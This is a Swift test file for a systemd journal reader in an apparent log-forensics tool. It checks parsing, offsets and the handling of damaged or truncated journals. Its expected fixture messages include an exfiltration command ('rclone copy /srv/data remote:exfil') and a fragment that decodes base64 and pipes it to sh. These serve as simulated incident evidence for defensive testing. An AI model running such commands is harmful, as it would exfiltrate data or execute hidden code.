import BinaryLogs
import EvidenceInput
import Foundation
import LineChunking
import RecordParsing
import Testing

/// The journal fixture is a real file written by systemd-journal-remote (systemd 252) and read here
/// through libsystemd; system.journal.json is what journalctl printed for it.
@Suite("Journal files")
struct JournalFileReaderTests {
    /// journalctl's lines, parsed.
    func journalctlEntries() throws -> [[String: Any]] {
        let text = try String(contentsOfFile: JournalFixture.journalctlJSONPath, encoding: .utf8)
        return try text.split(separator: "\n").map { line in
            try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
        }
    }

    func parsed(_ line: String) throws -> [String: Any] {
        try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
    }

    /// The entry object header at `offset` in the fixture: its type and seqnum.
    func entryObject(_ bytes: [UInt8], at offset: Int64) -> (type: UInt8, seqnum: UInt64) {
        let start = Int(offset)
        var seqnum: UInt64 = 0
        for index in stride(from: 7, through: 0, by: -1) { seqnum = seqnum << 8 | UInt64(bytes[start + 16 + index]) }
        return (bytes[start], seqnum)
    }

    @Test("every entry becomes the line journalctl -o json --all prints, keys sorted, first value of a repeated field")
    func matchesJournalctl() throws {
        let reader = try JournalFileReader(path: JournalFixture.journalPath, displayPath: "var/log/journal/m/system.journal")
        let result = readAll(reader)
        #expect(result.error == nil)
        let expected = try journalctlEntries()
        #expect(result.lines.count == 11 && expected.count == 11)
        for (line, reference) in zip(result.lines, expected) {
            let ours = try parsed(line.text)
            #expect(Set(ours.keys) == Set(reference.keys))
            for (key, value) in reference {
                if let strings = value as? [String] {
                    // A field repeated in the entry: journalctl lists all values, Spoor keeps the first.
                    #expect(ours[key] as? String == strings.first, "\(key)")
                } else if let bytes = value as? [Int] {
                    #expect(ours[key] as? [Int] == bytes, "\(key)")
                } else {
                    #expect(ours[key] as? String == value as? String, "\(key)")
                }
            }
            let keys = line.text.split(separator: ",").compactMap { $0.split(separator: ":").first.map { String($0.drop { $0 == "{" }) } }
            #expect(keys.filter { $0.hasPrefix("\"") && $0.hasSuffix("\"") } == keys.filter { $0.hasPrefix("\"") && $0.hasSuffix("\"") }.sorted())
        }
        let repeated = try parsed(result.lines[7].text)
        #expect(repeated["EVIDENCE_TAG"] as? String == "first")
        #expect(result.lines[7].text.contains(#""MESSAGE":"rclone copy /srv/data remote:exfil\n\tTransferred: 1.2 GiB""#))
        // Non-UTF-8 MESSAGE: a byte array, as journalctl prints it.
        #expect(result.lines[6].text.contains(#""MESSAGE":[73,110,118,97,108,105,100,32,117,115,101,114,32,255,254,"#))
        // The 850-byte cron MESSAGE is stored zstd-compressed: libsystemd decompressed it.
        #expect(result.lines[8].text.contains("| base64 -d | sh)"))
    }

    @Test("line n is the n-th entry; its offset is its entry object's, checked against the cursor")
    func entryOffsets() throws {
        let reader = try JournalFileReader(path: JournalFixture.journalPath, displayPath: "system.journal", recordsPerChunk: 4)
        let result = readAll(reader)
        #expect(result.chunks.map(\.firstLineNumber) == [1, 5, 9])
        #expect(reader.entriesWithOffset == 11)
        let bytes = try JournalFixture.bytes()
        var previous: Int64 = 0
        for line in result.lines {
            let object = entryObject(bytes, at: line.offset)
            #expect(object.type == 3, "entry object type at \(line.offset)")
            #expect(object.seqnum == UInt64(line.number))
            #expect(line.offset > previous)
            previous = line.offset
            let cursor = try #require(try parsed(line.text)["__CURSOR"] as? String)
            #expect(cursor.contains(";i=\(String(line.number, radix: 16));"))
        }
    }

    @Test("journal lines read as journal records: sshd family, exact time, fields")
    func recordsAndFields() throws {
        let result = readAll(try JournalFileReader(path: JournalFixture.journalPath, displayPath: "system.journal"))
        let accepted = Array(result.lines[2].text.utf8)
        accepted.withUnsafeBufferPointer { line in
            let record = LogRecord.read(line)
            #expect(record.format == .journalJSON)
            #expect(record.family == .sshd)
            #expect(RecordTime.instant(of: record, line: line) == .exact(nanosecondsSinceEpoch: 1_741_343_467_123_456_000))
            let resolver = FieldResolver()
            func field(_ name: String) -> String? {
                resolver.value(of: FieldName(name), in: record, line: line).map { String(decoding: resolver.bytes(of: $0, line: line), as: UTF8.self) }
            }
            #expect(field("host") == "web01")
            #expect(field("program") == "sshd")
            #expect(field("pid") == "327050")
            #expect(field("user") == "svc-backup")
            #expect(field("src_ip") == "203.0.113.77")
            #expect(field("_SYSTEMD_UNIT") == "ssh.service")
        }
    }

    @Test("a truncated copy: libsystemd refuses it, Spoor reads the entries before the cut and says it is partial")
    func truncatedCopy() throws {
        let folder = try TemporaryFolder()
        defer { folder.remove() }
        let whole = readAll(try JournalFileReader(path: JournalFixture.journalPath, displayPath: "system.journal"))
        let bytes = try JournalFixture.bytes()
        // Cut 10 bytes into entry 6's object: entries 1–5 and their data lie before it.
        let cut = Int(whole.lines[5].offset) + 10
        let path = try folder.write("system@0001.journal~", Array(bytes[0..<cut]))
        #expect(BinaryLogFormat.detect(fileAt: path) == .journal)
        let reader = try JournalFileReader(path: path, displayPath: "copy/system@0001.journal~")
        let result = readAll(reader)
        #expect(result.lines.count == 5)
        #expect(result.lines.map(\.text) == whole.lines.prefix(5).map(\.text))
        #expect(result.lines.map(\.offset) == whole.lines.prefix(5).map(\.offset))
        guard case .damagedRecords(let errorPath, let reason, let recordsRead)? = result.error else {
            Issue.record("expected .damagedRecords, got \(String(describing: result.error))")
            return
        }
        #expect(errorPath == "copy/system@0001.journal~")
        #expect(recordsRead == 5)
        #expect(reason.contains("cut short: \(cut) of the \(bytes.count) bytes"))
        #expect(reason.contains("5 of the 11 entries"))
        // Nothing was left beside the evidence.
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.url.path) == ["system@0001.journal~"])
    }

    @Test("a journal cut inside its hash tables: no entry can be read, and the error says why")
    func truncatedBeforeAnyEntry() throws {
        let folder = try TemporaryFolder()
        defer { folder.remove() }
        let path = try folder.write("system.journal", Array(try JournalFixture.bytes().prefix(20_000)))
        let result = readAll(try JournalFileReader(path: path, displayPath: "system.journal"))
        #expect(result.chunks.isEmpty)
        guard case .damagedRecords("system.journal", let reason, 0)? = result.error else {
            Issue.record("expected .damagedRecords with no records, got \(String(describing: result.error))")
            return
        }
        #expect(reason.contains("cut short: 20000 of the"))
        #expect(reason.contains("0 of the 11 entries"))
    }

    @Test("a journal cut inside its header cannot be opened")
    func truncatedHeader() throws {
        let folder = try TemporaryFolder()
        defer { folder.remove() }
        let path = try folder.write("system.journal", Array(try JournalFixture.bytes().prefix(100)))
        #expect(throws: InputError.unreadable(path: "system.journal", reason: "not a systemd journal file (no valid header)")) {
            try JournalFileReader(path: path, displayPath: "system.journal")
        }
        let header = Array(try JournalFixture.bytes().prefix(2000))
        let cutInTable = try folder.write("cut.journal", header)
        #expect(throws: InputError.self) { try JournalFileReader(path: cutInTable, displayPath: "cut.journal") }
    }

    @Test("an entry object destroyed mid-file: the others are kept, the damage is reported")
    func destroyedEntry() throws {
        let folder = try TemporaryFolder()
        defer { folder.remove() }
        let whole = readAll(try JournalFileReader(path: JournalFixture.journalPath, displayPath: "system.journal"))
        var bytes = try JournalFixture.bytes()
        let sixth = Int(whole.lines[5].offset)
        for index in sixth..<(sixth + 64) { bytes[index] = 0 }
        let path = try folder.write("system.journal", bytes)
        let result = readAll(try JournalFileReader(path: path, displayPath: "system.journal"))
        #expect(result.lines.count == 10)
        var expected = whole.lines
        expected.remove(at: 5)
        #expect(result.lines.map(\.text) == expected.map(\.text))
        #expect(result.lines.map(\.offset) == expected.map(\.offset))
        #expect(result.lines.map(\.number) == Array(1...10))
        guard case .damagedRecords(_, let reason, 10)? = result.error else {
            Issue.record("expected .damagedRecords after 10 entries, got \(String(describing: result.error))")
            return
        }
        #expect(reason.contains("10 of the 11 entries the header counts could be read"))
    }

    @Test("many entry objects destroyed: the entry after them still gets its offset")
    func manyDestroyedEntries() throws {
        let folder = try TemporaryFolder()
        defer { folder.remove() }
        let whole = readAll(try JournalFileReader(path: JournalFixture.journalPath, displayPath: "system.journal"))
        var bytes = try JournalFixture.bytes()
        for entry in 1...9 {
            let start = Int(whole.lines[entry].offset)
            for index in start..<(start + 64) { bytes[index] = 0 }
        }
        let path = try folder.write("system.journal", bytes)
        let result = readAll(try JournalFileReader(path: path, displayPath: "system.journal"))
        #expect(result.lines.map(\.text) == [whole.lines[0].text, whole.lines[10].text])
        #expect(result.lines.map(\.offset) == [whole.lines[0].offset, whole.lines[10].offset])
        guard case .damagedRecords(_, let reason, 2)? = result.error else {
            Issue.record("expected .damagedRecords, got \(String(describing: result.error))")
            return
        }
        #expect(reason.contains("2 of the 11 entries"))
    }

    @Test("an entry whose field list is damaged: read with the fields left, and reported")
    func damagedFieldList() throws {
        let folder = try TemporaryFolder()
        defer { folder.remove() }
        let whole = readAll(try JournalFileReader(path: JournalFixture.journalPath, displayPath: "system.journal"))
        var bytes = try JournalFixture.bytes()
        // The entry's items (32-bit data object offsets in compact files) start 64 bytes in.
        let items = Int(whole.lines[5].offset) + 64
        for index in items..<(items + 20) { bytes[index] = 0xff }
        let path = try folder.write("system.journal", bytes)
        let result = readAll(try JournalFileReader(path: path, displayPath: "system.journal"))
        #expect(result.lines.count == 11)
        #expect(result.lines[5].offset == whole.lines[5].offset)
        guard case .damagedRecords(_, let reason, 11)? = result.error else {
            Issue.record("expected .damagedRecords, got \(String(describing: result.error))")
            return
        }
        #expect(reason.contains("entry 6 (offset \(whole.lines[5].offset)): 5 of its 17 fields could not be read"))
    }

    @Test("bytes with the journal magic that are no journal: unreadable, naming the file")
    func notAJournal() throws {
        let folder = try TemporaryFolder()
        defer { folder.remove() }
        let path = try folder.write("fake.journal", Array("LPKSHHRH".utf8) + Array(repeating: 0, count: 4088))
        #expect(BinaryLogFormat.detect(fileAt: path) == .journal)
        #expect(throws: InputError.unreadable(path: "fake.journal", reason: "not a systemd journal file (no valid header)")) {
            try JournalFileReader(path: path, displayPath: "fake.journal")
        }
    }
}
